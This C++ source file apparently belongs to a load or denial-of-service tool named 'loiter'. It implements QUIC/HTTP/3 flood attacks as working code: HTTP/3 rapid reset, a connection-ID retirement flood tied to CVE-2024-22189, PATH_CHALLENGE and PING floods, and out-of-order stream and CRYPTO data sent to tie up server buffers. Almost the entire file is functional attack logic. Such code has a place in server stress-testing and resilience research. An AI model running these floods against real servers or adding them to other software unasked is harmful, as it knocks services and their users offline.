// The floods of QUIC's own frames (h3/floods.hpp): rapid reset over HTTP/3, the
// connection-ID retirement flood, the PATH_CHALLENGE flood, out-of-order data at high
// offsets and the PING flood, each a FloodConnection that only says which frames come next.
#include "h3/flood/transport_floods.hpp"

#include "h3/initial/initial_keys.hpp"
#include "h3/quic_connection.hpp"

namespace loiter::clients::h3 {

namespace transport_floods {

constexpr std::uint64_t kRequestCancelled = 0x10c;  // H3_REQUEST_CANCELLED
constexpr std::size_t kOutOfOrderBytes = 1000;      // each out-of-order frame's data
constexpr std::uint64_t kCryptoStart = 1 << 20;     // the first CRYPTO offset: 1 MiB
constexpr std::uint64_t kCryptoStep = 64 << 10;     // and 64 KiB further each time
constexpr std::size_t kChallengesPerPacket = 16;

std::string get_headers(const H3Options& options) {
  const std::string section = qpack_get_section(options.authority, options.path);
  return frame_header(0x01, section.size()) + section;
}

quic::ByteSpan span_of(const std::string& bytes) {
  return {reinterpret_cast<const std::uint8_t*>(bytes.data()), bytes.size()};
}

}  // namespace transport_floods

using namespace transport_floods;

RapidReset::RapidReset(Executor executor, std::shared_ptr<const H3FloodOptions> flood,
                       std::size_t index, ConnectionRecord& record)
    : FloodConnection(executor, std::move(flood), index, record, kH3RapidReset, false) {}

bool RapidReset::add_flood_frames(quic::Bytes& payload, std::size_t room, std::size_t& added) {
  if (headers_.empty()) headers_ = get_headers(flood().h3);
  const std::size_t each = headers_.size() + 32;  // the STREAM and RESET_STREAM frames
  while (room >= payload.size() + each && added + 2 <= frames_left()) {
    if (!take_credit(headers_.size())) return false;
    const auto id = open_bidi();
    if (!id) return false;  // the server's MAX_STREAMS: no more streams for now
    const auto stream = static_cast<std::uint64_t>(*id);
    quic::put_stream(payload, stream, 0, span_of(headers_), /*fin=*/true);
    quic::put_reset_stream(payload, stream, kRequestCancelled, headers_.size());
    added += 2;
  }
  return true;
}

ConnectionIdFlood::ConnectionIdFlood(Executor executor, std::shared_ptr<const H3FloodOptions> flood,
                                     std::size_t index, ConnectionRecord& record)
    : FloodConnection(executor, std::move(flood), index, record, kH3ConnectionIdFlood, true) {}

bool ConnectionIdFlood::add_flood_frames(quic::Bytes& payload, std::size_t room,
                                         std::size_t& added) {
  if (next_sequence_ == 0) next_sequence_ = link().scids_issued;
  const std::size_t length = link().scid_length;
  const std::size_t each = 1 + 8 + 8 + 1 + length + 16;
  while (room >= payload.size() + each && added < frames_left()) {
    // Each retires every connection ID before it: the server owes a RETIRE_CONNECTION_ID
    // for each, which the withheld ACKs leave unacknowledged (CVE-2024-22189).
    const std::uint64_t sequence = next_sequence_++;
    const auto cid = h3init::random_bytes(length);
    const auto token = h3init::random_bytes(16);
    quic::put_new_connection_id(payload, sequence, sequence, cid, token);
    ++added;
  }
  return true;
}

PathChallengeFlood::PathChallengeFlood(Executor executor,
                                       std::shared_ptr<const H3FloodOptions> flood,
                                       std::size_t index, ConnectionRecord& record)
    : FloodConnection(executor, std::move(flood), index, record, kH3PathChallengeFlood, true) {}

bool PathChallengeFlood::add_flood_frames(quic::Bytes& payload, std::size_t room,
                                          std::size_t& added) {
  for (std::size_t i = 0;
       i < kChallengesPerPacket && room >= payload.size() + 9 && added < frames_left(); ++i) {
    quic::put_path_challenge(payload, h3init::random_bytes(8));
    ++added;
  }
  return true;
}

OutOfOrder::OutOfOrder(Executor executor, std::shared_ptr<const H3FloodOptions> flood,
                       std::size_t index, ConnectionRecord& record)
    : FloodConnection(executor, std::move(flood), index, record, kH3OutOfOrder, false) {}

bool OutOfOrder::add_flood_frames(quic::Bytes& payload, std::size_t room, std::size_t& added) {
  if (room < payload.size() + kOutOfOrderBytes + 24) return true;
  const std::string data(kOutOfOrderBytes, 'o');
  // Every other frame a request stream's last bytes of window, never its first byte: the
  // server holds them (a window's worth of connection credit each) until the stream ends.
  const std::uint64_t window = link().stream_window;
  if (stream_turn_ && window > kOutOfOrderBytes && take_credit(window)) {
    if (const auto id = open_bidi()) {
      quic::put_stream(payload, static_cast<std::uint64_t>(*id), window - kOutOfOrderBytes,
                       span_of(data), /*fin=*/false);
      ++added;
      stream_turn_ = false;
      return true;
    }
  }
  stream_turn_ = true;
  // CRYPTO data far past what the handshake sent, never the bytes before it (RFC 9000 7.5:
  // buffer it, or close with CRYPTO_BUFFER_EXCEEDED).
  quic::put_crypto(payload, kCryptoStart + crypto_sent_ * kCryptoStep, span_of(data));
  ++crypto_sent_;
  ++added;
  return true;
}

PingFlood::PingFlood(Executor executor, std::shared_ptr<const H3FloodOptions> flood,
                     std::size_t index, ConnectionRecord& record)
    : FloodConnection(executor, std::move(flood), index, record, kH3PingFlood, true) {}

bool PingFlood::add_flood_frames(quic::Bytes& payload, std::size_t room, std::size_t& added) {
  // One PING a packet: each an ack-eliciting packet the server must acknowledge.
  if (room >= payload.size() + 1) {
    quic::put_ping(payload);
    ++added;
  }
  return true;
}

}  // namespace loiter::clients::h3
